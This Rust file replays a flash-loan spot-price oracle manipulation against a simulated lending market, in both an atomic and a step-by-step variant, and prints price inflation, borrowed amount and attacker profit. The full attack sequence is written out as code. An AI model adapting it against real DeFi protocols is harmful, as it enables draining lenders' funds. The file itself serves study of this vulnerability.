//! Spot-price oracle manipulation replay
//!
//! A flash-loaned native amount is swapped into the pool, which pumps the
//! token's spot price. The tokens received are posted as collateral, valued at
//! the pumped price, and the lending pool is drained down to its headroom.
//! Repaying the flash loan leaves the attacker with the excess.

use anyhow::{bail, Context, Result};
use colored::Colorize;
use spotlend::{
    format_amount, units, AccountId, Amount, Asset, Market, MarketConfig, Op, Outcome, Payment,
    Sequencer, TokenId,
};

const DEPLOYER: &str = "deployer";
const ATTACKER: &str = "attacker";

/// Figures reported at the end of an attack
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackReport {
    pub price_before: Amount,
    pub price_after: Amount,
    pub collateral: Amount,
    pub borrowed: Amount,
    pub lender_reserve: Amount,
    pub attacker_balance: Amount,
    /// Attacker balance minus its own starting funds
    pub profit: Amount,
}

/// Pool at 1 native / 3000 USDC, lender funded with 5 native, and a
/// deployer holding the flash-loan and seed funds
pub fn setup(seed: Amount, flash: Amount) -> Result<Market> {
    let mut market = Market::new(MarketConfig {
        token: TokenId::new("USDC"),
        collateral_ratio_bps: 8000,
    })?;
    let deployer = AccountId::from(DEPLOYER);

    market.open_account(&deployer, units(6), units(3000))?;
    market.open_account(&deployer, flash, 0)?;
    market.open_account(&deployer, seed, 0)?;
    market.open_account(&AccountId::from(ATTACKER), 0, 0)?;

    market.seed_pool(&deployer, Asset::Token, units(3000))?;
    market.seed_pool(&deployer, Asset::Native, units(1))?;
    market.fund_lender(&deployer, units(5))?;
    Ok(market)
}

/// Every step inside one atomic unit
pub fn attack_atomic(market: &mut Market, flash: Amount) -> Result<AttackReport> {
    let deployer = AccountId::from(DEPLOYER);
    let attacker = AccountId::from(ATTACKER);
    let price_before = market.price_of(Asset::Token, Asset::Native)?;

    let (collateral, price_after, borrowed) = market
        .atomic(|m| -> spotlend::Result<_> {
            m.transfer(&deployer, &attacker, Asset::Native, flash)?;
            let received = m.swap(&attacker, Asset::Native, flash, Payment::native(flash))?;
            m.deposit_collateral(&attacker, received, Payment::token(received))?;

            let price_after = m.price_of(Asset::Token, Asset::Native)?;
            let borrowed = m.max_borrow_amount(&attacker)?;
            m.borrow_eth(&attacker, borrowed)?;

            m.transfer(&attacker, &deployer, Asset::Native, flash)?;
            Ok((received, price_after, borrowed))
        })
        .context("Attack sequence rolled back")?;

    let attacker_balance = market.wallet(&attacker).native;
    Ok(AttackReport {
        price_before,
        price_after,
        collateral,
        borrowed,
        lender_reserve: market.lender().native_reserve(),
        attacker_balance,
        profit: attacker_balance,
    })
}

/// Each step submitted as its own sequence, attacker pre-funded with `seed`
pub fn attack_split(market: Market, seed: Amount, flash: Amount) -> Result<AttackReport> {
    let deployer = AccountId::from(DEPLOYER);
    let attacker = AccountId::from(ATTACKER);
    let price_before = market.price_of(Asset::Token, Asset::Native)?;
    let sequencer = Sequencer::new(market);

    let transfer = |from: &AccountId, to: &AccountId, amount: Amount| Op::Transfer {
        from: from.clone(),
        to: to.clone(),
        asset: Asset::Native,
        amount,
    };

    if seed > 0 {
        sequencer
            .submit(&[transfer(&deployer, &attacker, seed)])
            .context("Seeding attacker failed")?;
    }
    sequencer
        .submit(&[transfer(&deployer, &attacker, flash)])
        .context("Flash loan failed")?;

    let swapped = sequencer
        .submit(&[Op::Swap {
            caller: attacker.clone(),
            asset_in: Asset::Native,
            amount_in: flash,
            payment: None,
        }])
        .context("Swap failed")?;
    let collateral = match swapped.first() {
        Some(Outcome::Swapped { amount_out }) => *amount_out,
        other => bail!("Unexpected swap outcome: {:?}", other),
    };

    sequencer
        .submit(&[Op::DepositCollateral {
            account: attacker.clone(),
            amount: collateral,
            payment: None,
        }])
        .context("Collateral deposit failed")?;
    let price_after = sequencer.with_market(|m| m.price_of(Asset::Token, Asset::Native))?;

    let borrowed = sequencer
        .submit(&[Op::Borrow {
            account: attacker.clone(),
            amount: None,
        }])
        .context("Borrow failed")?;
    let borrowed = match borrowed.first() {
        Some(Outcome::Borrowed { amount }) => *amount,
        other => bail!("Unexpected borrow outcome: {:?}", other),
    };

    sequencer
        .submit(&[transfer(&attacker, &deployer, flash)])
        .context("Flash loan repayment failed")?;

    let market = sequencer.into_inner();
    let attacker_balance = market.wallet(&attacker).native;
    Ok(AttackReport {
        price_before,
        price_after,
        collateral,
        borrowed,
        lender_reserve: market.lender().native_reserve(),
        attacker_balance,
        profit: attacker_balance.saturating_sub(seed),
    })
}

pub fn run_attack(split: bool, seed: Amount, flash: Amount) -> Result<()> {
    println!("{}", "=== Oracle Manipulation ===".bright_green().bold());
    println!(
        "{} {}",
        "Mode:".bright_cyan(),
        if split { "one sequence per step" } else { "single atomic sequence" }
    );
    println!("{} {} native", "Flash Loan:".bright_cyan(), format_amount(flash));

    let mut market = setup(seed, flash)?;
    let report = if split {
        println!("{} {} native", "Attacker Seed:".bright_cyan(), format_amount(seed));
        attack_split(market, seed, flash)?
    } else {
        attack_atomic(&mut market, flash)?
    };

    println!("\n{}", "--- Oracle ---".bright_yellow());
    println!(
        "{} {} native",
        "USDC Price Before:".bright_cyan(),
        format_amount(report.price_before)
    );
    println!(
        "{} {} native",
        "USDC Price After:".bright_cyan(),
        format_amount(report.price_after).bright_red()
    );
    if report.price_before > 0 {
        println!(
            "{} {}x",
            "Inflation:".bright_cyan(),
            report.price_after / report.price_before
        );
    }

    println!("\n{}", "--- Lending Pool ---".bright_yellow());
    println!(
        "{} {} USDC",
        "Collateral Posted:".bright_cyan(),
        format_amount(report.collateral)
    );
    println!(
        "{} {} native",
        "Borrowed:".bright_cyan(),
        format_amount(report.borrowed)
    );
    println!(
        "{} {} native",
        "Reserve Left:".bright_cyan(),
        format_amount(report.lender_reserve)
    );

    println!("\n{}", "--- Attacker ---".bright_yellow());
    println!(
        "{} {} native",
        "Balance:".bright_cyan(),
        format_amount(report.attacker_balance)
    );
    println!(
        "{} {} native",
        "Profit:".bright_cyan(),
        format_amount(report.profit).bright_green().bold()
    );
    Ok(())
}
